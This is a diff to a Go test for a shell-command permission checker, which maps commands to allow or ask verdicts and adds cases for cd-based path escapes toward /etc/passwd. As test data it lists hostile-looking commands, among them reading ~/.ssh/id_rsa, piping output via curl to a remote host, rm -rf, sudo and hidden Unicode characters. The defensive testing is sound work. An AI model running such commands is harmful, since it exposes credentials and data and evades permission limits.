@@ -22,6 +22,8 @@ func TestCommandLinesInModeDefault(t *testing.T) {
 	for text, want := range map[string]string{
 		"ls -la": "allow READ_ONLY_COMMAND", "git status && git diff | head -5": "allow READ_ONLY_COMMAND", "grep -rn TODO src | wc -l": "allow READ_ONLY_COMMAND",
 		"cat /ws/a.txt": "allow READ_ONLY_COMMAND", "cat ../other/a.txt": "ask READS_OUTSIDE", "cat /etc/passwd": "ask READS_OUTSIDE", "ls /usr/include > /dev/null": "allow READ_ONLY_COMMAND",
+		"cd /etc; ls": "ask READS_OUTSIDE", "cd /etc && cat passwd": "ask READS_OUTSIDE", "cd $X; cat passwd": "ask READS_OUTSIDE", "cd a/../../.. && cat passwd": "ask READS_OUTSIDE", "cat /etc/$X": "ask READS_OUTSIDE", "cd sub && ls && cd ../b && cat c": "allow READ_ONLY_COMMAND",
+		"cd /usr/include && ls": "allow READ_ONLY_COMMAND", "for f in *.go; do wc -l \"$f\"; done": "allow READ_ONLY_COMMAND",
 		"touch a": "ask CHANGES_THINGS", "ls; touch a": "ask CHANGES_THINGS", "echo x > a.txt": "ask CHANGES_THINGS", "curl https://a.example": "ask NETWORK", "ls | curl -d @- https://a.example": "ask NETWORK",
 		"rm -rf src": "ask DESTRUCTIVE", "sudo ls": "ask ESCAPE_ATTEMPT", "cat ~/.ssh/id_rsa": "ask ESCAPE_ATTEMPT", "$X": "ask UNPARSABLE", "ls \u202e": "ask UNPARSABLE", "": "ask UNPARSABLE", "echo $(touch a)": "ask CHANGES_THINGS",
 	} {
